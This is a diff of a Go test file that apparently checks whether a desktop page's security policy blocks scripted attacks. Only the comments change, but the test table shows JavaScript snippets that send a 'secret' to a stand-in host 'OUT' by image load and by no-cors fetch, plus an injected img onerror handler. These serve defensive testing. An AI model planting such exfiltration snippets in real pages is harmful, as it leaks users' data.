@@ -9,8 +9,8 @@ import (
 	"choir.dev/choiros/internal/defence"
 )
 
-// desktopRows are what the page of a computer that really runs may do, as its
-// host serves it: from its dev server in its box, under its policy.
+// desktopRows are attacks of the page of a real computer, as its host serves it: from the dev
+// server in its box, under its policy.
 var desktopRows = []Row{
 	inDesktop(22, "its page sends data out with an image", `new Promise((r) => { const i = new Image(); i.onload = i.onerror = () => r('ended'); i.src = 'OUT/secret' })`, defence.ControlPolicy),
 	inDesktop(22, "its page sends data out with a request", `fetch('OUT/secret', {mode: 'no-cors'}).then(() => 'sent', () => 'refused')`, defence.ControlPolicy),
@@ -21,8 +21,8 @@ var desktopRows = []Row{
 		document.body.insertAdjacentHTML('beforeend', '<img src=data:, onerror="stolen()">') })`, defence.ControlPolicy),
 }
 
-// inDesktop is a row of a script in the desktop's page. The attack works when the
-// site outside was asked, or the script says that it is done.
+// inDesktop makes a row of a script in the desktop's page. The attack works if the outside site was
+// requested, or if the script reports that it succeeded.
 func inDesktop(number int, attack, script string, defences ...defence.Name) Row {
 	return Row{Number: number, Attack: "in a whole computer's desktop: " + attack, Defences: defences, Whole: true, Lacks: lacksBrowser, Run: func(t *testing.T) Verdict {
 		v := newWholeVisitor(t)
@@ -34,7 +34,7 @@ func inDesktop(number int, attack, script string, defences ...defence.Name) Row 
 	}}
 }
 
-// put writes a file of the desktop into the computer, if it is not as it is.
+// put writes a file of the desktop into the computer, unless it is there already.
 func (v *wholeVisitor) put(t *testing.T, file, text string) {
 	t.Helper()
 	if edited[file] == text {
